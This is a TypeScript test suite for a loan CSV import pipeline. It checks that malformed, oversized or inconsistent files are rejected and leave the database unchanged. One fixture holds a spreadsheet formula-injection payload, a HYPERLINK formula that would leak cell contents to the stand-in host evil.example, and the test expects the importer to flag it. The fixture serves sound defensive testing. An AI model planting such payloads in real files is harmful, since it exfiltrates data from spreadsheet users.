import { Readable } from "node:stream";
import type { DbHandle } from "@creditseg/db";
import { createTestDb, describeEachDb } from "@creditseg/db/testing";
import { afterAll, beforeAll, expect, it } from "vitest";
import { commitImport } from "../commit/commit-import";
import { saveMapping } from "../mappings/column-mappings";
import { REASONS, type ReasonCode } from "../reasons";
import { renderReason } from "../render-reason";
import { bufferSource, fileSource, type ImportSource } from "../source";
import { fixturePath, loadFixtureCustomers, snapshotTables } from "../testing/fixtures";

const actor = { id: null };
const HEADER =
  "loan_id,customer_id,product,amount,rate,term_months,start_date,maturity_date,guarantee,classification,avg_daily_balance,days";
const loanLine = (id: string, customer = "C001") =>
  `${id},${customer},working capital,1000000.00,4.35,120,2025-01-15,2035-01-15,guarantee,normal,900000.00,350`;

/** A CSV whose second line is `megabytes` MB long, generated lazily so it is never held in memory. */
function hugeLineSource(megabytes: number): ImportSource {
  const chunk = Buffer.alloc(1024 * 1024, "x");
  return {
    name: "huge-line.csv",
    size: HEADER.length + 2 + megabytes * chunk.length,
    open: () =>
      Readable.from(
        (function* () {
          yield Buffer.from(`${HEADER}\r\nL1,C001,`);
          for (let i = 0; i < megabytes; i++) yield chunk;
        })(),
      ),
  };
}

type Expected = {
  fileCode?: ReasonCode;
  rows?: { rowNumber: number; code: ReasonCode; column: string | null; value?: string }[];
};

const CORPUS: [string, Expected][] = [
  ["bad/empty.csv", { fileCode: "empty_file" }],
  ["bad/header-only.csv", { fileCode: "no_data_rows" }],
  ["bad/wrong-delimiter.csv", { fileCode: "unrecognised_delimiter" }],
  ["bad/binary-junk.csv", { fileCode: "binary_file" }],
  ["bad/truncated-last-line.csv", { rows: [{ rowNumber: 4, code: "truncated_row", column: null }] }],
  [
    "bad/duplicate-keys.csv",
    { rows: [{ rowNumber: 4, code: "duplicate_key_in_file", column: "loan_id", value: "L1" }] },
  ],
  [
    "bad/unknown-customer.csv",
    { rows: [{ rowNumber: 3, code: "unknown_customer", column: "customer_id", value: "C999" }] },
  ],
  ["bad/rate-basis-points.csv", { rows: [{ rowNumber: 3, code: "rate_out_of_range", column: "rate", value: "4350" }] }],
  [
    "bad/negative-amount.csv",
    { rows: [{ rowNumber: 3, code: "negative_amount", column: "amount", value: "-1000000.00" }] },
  ],
  [
    "bad/invalid-date.csv",
    { rows: [{ rowNumber: 3, code: "invalid_date", column: "start_date", value: "2015-02-30" }] },
  ],
  [
    "bad/formula-injection.csv",
    {
      rows: [
        {
          rowNumber: 3,
          code: "formula_injection",
          column: "product",
          value: '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
        },
      ],
    },
  ],
];

describeEachDb("bad files are rejected by name and leave the database unchanged", (kind) => {
  let handle: DbHandle;
  beforeAll(async () => {
    handle = await createTestDb(kind);
    await loadFixtureCustomers(handle);
  });
  afterAll(async () => handle.close());

  it.each(CORPUS)("%s", async (name, expected) => {
    const before = await snapshotTables(handle);
    const report = await commitImport({
      handle,
      kind: "loans",
      period: "2025",
      file: fileSource(fixturePath(name)),
      actor,
    });
    expect(report.status).toBe("rejected");
    if (expected.fileCode) expect(report.fileRejects.map((reject) => reject.code)).toEqual([expected.fileCode]);
    if (expected.rows) {
      expect(report.fileRejects).toEqual([]);
      expect(
        report.rejects.map(({ rowNumber, code, column, value }) => ({
          rowNumber,
          code,
          column,
          ...(expected.rows?.[0]?.value === undefined ? {} : { value }),
        })),
      ).toEqual(expected.rows);
      expect(renderReason(report.rejects[0]!, { locale: "zh-CN" })).toContain(REASONS[report.rejects[0]!.code].zh);
      expect(renderReason(report.rejects[0]!, { locale: "en" })).toContain(REASONS[report.rejects[0]!.code].en);
    }
    expect(await snapshotTables(handle)).toEqual(before);
  });

  it("keeps nothing of a file whose last rows are rejected after thousands of its rows were copied", async () => {
    const before = await snapshotTables(handle);
    // Far past one database-check chunk: on PostgreSQL the first rows are in the COPY before the last are read.
    const lines = Array.from({ length: 12_000 }, (_, i) => loanLine(`LATE${i}`));
    lines.push(loanLine("LATE-X", "C999"), loanLine("LATE-Y").replace("4.35", "43.5"));
    const file = () => bufferSource("late-rejects.csv", Buffer.from(`${HEADER}\n${lines.join("\n")}\n`));
    const report = await commitImport({ handle, kind: "loans", period: "2031", file: file(), actor });
    expect(report.status).toBe("rejected");
    expect(report.totals).toMatchObject({ rowsRead: 12_002, rowsAccepted: 12_000, rowsRejected: 2 });
    expect(report.rejects.map(({ rowNumber, code }) => ({ rowNumber, code }))).toEqual([
      { rowNumber: 12_002, code: "unknown_customer" },
      { rowNumber: 12_003, code: "rate_out_of_range" },
    ]);
    expect(await snapshotTables(handle)).toEqual(before);

    const accepted = await commitImport({
      handle,
      kind: "loans",
      period: "2031",
      file: file(),
      options: { isAcceptValid: true },
      actor,
    });
    expect(accepted.status).toBe("committed");
    expect(accepted.changes).toEqual({ inserted: 12_000, updated: 0, deleted: 0 });
    const [stored] = await handle.raw<{ n: number; batch: string }>(
      "select count(*)::int as n, min(import_batch_id::text) as batch from loans where period = '2031'",
    );
    expect(stored).toEqual({ n: 12_000, batch: accepted.batchId });
    const [batch] = await handle.raw<Record<string, unknown>>(
      "select rows_read, rows_accepted, rows_rejected, encoding from import_batches where id = $1",
      [accepted.batchId],
    );
    expect(batch).toEqual({ rows_read: 12_002, rows_accepted: 12_000, rows_rejected: 2, encoding: "utf-8" });
  });

  it("stops at a 300 MB line without reading it into memory", async () => {
    const before = await snapshotTables(handle);
    // Above the default byte budget, which would refuse it before the first line: the line cap is under test here.
    const options = { budgets: { maxBytes: 512 * 1024 * 1024 } };
    const report = await commitImport({
      handle,
      kind: "loans",
      period: "2025",
      file: hugeLineSource(300),
      options,
      actor,
    });
    expect(report.status).toBe("rejected");
    expect(report.fileRejects.map(({ code, rowNumber }) => ({ code, rowNumber }))).toEqual([
      { code: "line_too_long", rowNumber: 2 },
    ]);
    expect(await snapshotTables(handle)).toEqual(before);
  });

  it("names a stray quote inside an unquoted field as malformed quotes", async () => {
    const before = await snapshotTables(handle);
    const file = bufferSource(
      "stray-quote.csv",
      Buffer.from(
        `${HEADER}\n${loanLine("L1")}\nL2,C001,=HYPERLINK("x"),1,4.35,12,2025-01-15,2026-01-15,guarantee,normal,1,350\n`,
      ),
    );
    const report = await commitImport({ handle, kind: "loans", period: "2025", file, actor });
    expect(report.status).toBe("rejected");
    expect(report.fileRejects.map(({ code, rowNumber }) => ({ code, rowNumber }))).toEqual([
      { code: "malformed_quotes", rowNumber: 3 },
    ]);
    expect(await snapshotTables(handle)).toEqual(before);
  });

  it("rejects a key that already belongs to another customer in the database", async () => {
    const first = await commitImport({
      handle,
      kind: "loans",
      period: "2030",
      file: bufferSource("a.csv", Buffer.from(`${HEADER}\n${loanLine("L9", "C001")}\n`)),
      actor,
    });
    expect(first.status).toBe("committed");
    const before = await snapshotTables(handle);
    const report = await commitImport({
      handle,
      kind: "loans",
      period: "2030",
      file: bufferSource("b.csv", Buffer.from(`${HEADER}\n${loanLine("L9", "C002")}\n`)),
      actor,
    });
    expect(report.rejects.map(({ code, rowNumber }) => ({ code, rowNumber }))).toEqual([
      { code: "duplicate_key_in_database", rowNumber: 2 },
    ]);
    expect(await snapshotTables(handle)).toEqual(before);
  });

  it("with accept-valid, commits the valid rows and keeps the rejects in the batch report", async () => {
    const report = await commitImport({
      handle,
      kind: "loans",
      period: "2026",
      file: fileSource(fixturePath("bad/unknown-customer.csv")),
      options: { isAcceptValid: true },
      actor,
    });
    expect(report.status).toBe("committed");
    expect(report.totals).toMatchObject({
      rowsRead: 2,
      rowsAccepted: 1,
      rowsRejected: 1,
      totalReadFen: 180_000_000n,
      totalAcceptedFen: 90_000_000n,
      totalRejectedFen: 90_000_000n,
    });
    const rejects = await handle.raw<{ row_number: number; reason_code: string }>(
      "select row_number, reason_code from import_rejects where batch_id = $1",
      [report.batchId],
    );
    expect(rejects).toEqual([{ row_number: 3, reason_code: "unknown_customer" }]);
  });

  it("checks the expected control total", async () => {
    const before = await snapshotTables(handle);
    const file = bufferSource("two.csv", Buffer.from(`${HEADER}\n${loanLine("L1")}\n${loanLine("L2")}\n`));
    const wrong = await commitImport({
      handle,
      kind: "loans",
      period: "2027",
      file,
      options: { expectedTotalFen: 100n },
      actor,
    });
    expect(wrong.fileRejects.map((reject) => reject.code)).toEqual(["control_total_mismatch"]);
    expect(wrong.totals.isExpectedTotalMatched).toBe(false);
    expect(await snapshotTables(handle)).toEqual(before);
    const right = await commitImport({
      handle,
      kind: "loans",
      period: "2027",
      file,
      options: { expectedTotalFen: 180_000_000n },
      actor,
    });
    expect(right.status).toBe("committed");
    expect(right.totals.isExpectedTotalMatched).toBe(true);
  });

  it("reuses a saved column mapping for a recurring layout", async () => {
    const file = bufferSource(
      "custom.csv",
      Buffer.from(`${HEADER.replace("customer_id", "借款人代码")}\n${loanLine("L1")}\n`),
    );
    const unmapped = await commitImport({ handle, kind: "loans", period: "2028", file, actor });
    expect(unmapped.fileRejects.map(({ code, column }) => ({ code, column }))).toEqual([
      { code: "missing_required_column", column: "customer_id" },
    ]);
    expect(unmapped.unknownHeaders).toEqual(["借款人代码"]);
    await saveMapping({
      handle,
      input: { name: "branch-x loans", kind: "loans", mapping: { 借款人代码: "customer_id" } },
      actorId: null,
    });
    const mapped = await commitImport({
      handle,
      kind: "loans",
      period: "2028",
      file,
      options: { mapping: "branch-x loans" },
      actor,
    });
    expect(mapped.status).toBe("committed");
  });

  it("a dry run validates and writes nothing", async () => {
    const before = await snapshotTables(handle);
    const report = await commitImport({
      handle,
      kind: "loans",
      period: "2015",
      file: fileSource(fixturePath("loans-gbk.csv")),
      options: { isDryRun: true },
      actor,
    });
    expect(report.status).toBe("validated");
    expect(report.totals.rowsAccepted).toBe(5);
    expect(await snapshotTables(handle)).toEqual(before);
  });
});

it("needs no database to refuse an unknown saved mapping target", async () => {
  const handle = await createTestDb("pglite");
  try {
    await expect(
      saveMapping({ handle, input: { name: "x", kind: "loans", mapping: { a: "no_such_column" } }, actorId: null }),
    ).rejects.toMatchObject({ code: "unknown_mapping_target" });
  } finally {
    await handle.close();
  }
});
